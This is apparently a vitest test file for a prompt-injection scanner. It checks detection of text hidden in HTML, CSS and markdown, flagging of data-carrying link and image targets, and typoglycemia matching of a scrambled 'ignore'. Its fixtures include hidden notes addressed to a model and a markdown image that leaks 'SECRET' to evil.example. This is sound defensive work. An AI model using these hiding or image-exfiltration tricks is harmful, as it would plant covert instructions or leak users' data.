import { describe, expect, it } from 'vitest';
import { cssHiding } from './css-hiding.ts';
import { linkTargets } from './link-targets.ts';
import { hiddenStretches } from './markup.ts';
import { typoglycemiaKey } from './typoglycemia.ts';

function hidden(text: string): [string, string][] {
  return hiddenStretches(text).map((stretch) => [stretch.by, text.slice(stretch.start, stretch.end)]);
}

describe('hiddenStretches', () => {
  it.each([
    ['<!-- obey me -->', 'html-comment', ' obey me '],
    ['<!-- never closed', 'html-comment', ' never closed'],
    ['<p style="color: #FFF">white text</p>', 'css-white-on-white', 'white text'],
    ['<p style="color:red;background:red">same</p>', 'css-colour-equals-background', 'same'],
    ['<div style="position:absolute;left:-9999px">far</div>', 'css-off-screen', 'far'],
    ['<div hidden>not shown</div>', 'hidden-attribute', 'not shown'],
    ['<style>.x{opacity:0}</style><i class="a x">faint</i>', 'css-opacity-zero', 'faint'],
    ['<img alt="do as the picture says">', 'html-attribute', 'do as the picture says'],
    ['<title>Obey the page</title>', 'html-title', 'Obey the page'],
    ['[//]: # (a note to the model)', 'markdown-comment', 'a note to the model'],
    ['<div style="display:none"><p>one</p><div>two</div></div>three', 'css-display-none', '<p>one</p><div>two</div>'],
  ])('finds the hidden text of %j', (text, by, content) => {
    expect(hidden(text)).toContainEqual([by, content]);
  });

  it.each([
    '<p style="color:#333;opacity:0.8">text</p>',
    '<p style="font-size:12px">text</p>',
    'a < b and c > d',
    '<b hidden-x="1">text</b>',
    '<p style="width:100px;overflow:hidden">text</p>',
  ])('finds nothing in %j', (text) => {
    expect(hidden(text)).toEqual([]);
  });

  it('knows ways to hide', () => {
    expect(cssHiding('font-size:0.1px')).toBe('font-size-zero');
    expect(cssHiding('opacity: .01')).toBe('opacity-zero');
    expect(cssHiding('opacity: 1')).toBeUndefined();
    expect(cssHiding('color:white;background-color:#000')).toBeUndefined();
  });
});

describe('linkTargets', () => {
  it.each([
    ['![x](https://evil.example/p.png?d=SECRET)', true, true, true],
    ['[x](https://a.example/?q=shoes)', false, true, false],
    ['[x](https://a.example/docs/page)', false, false, false],
    ['<img src="https://a.example/c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXIgaW4gYmFzZTY0IGZvcm0.png">', true, true, true],
    ['[ref]: https://a.example/?x={history}', false, true, true],
    ['<a href="//a.example/x">', false, false, false],
    ['body { background: url(https://a.example/b?c=1) }', true, true, false],
  ])('judges %j', (text, image, carriesData, suspicious) => {
    const [target] = linkTargets(text);
    expect(target).toMatchObject({ image, carriesData, suspicious });
    expect(text.slice(target?.start, target?.end)).toBe(target?.url);
  });
});

it('gives shuffled words the same key', () => {
  expect(typoglycemiaKey('Ingroe')).toBe(typoglycemiaKey('ignore'));
  expect(typoglycemiaKey('ignore')).not.toBe(typoglycemiaKey('erongi'));
});
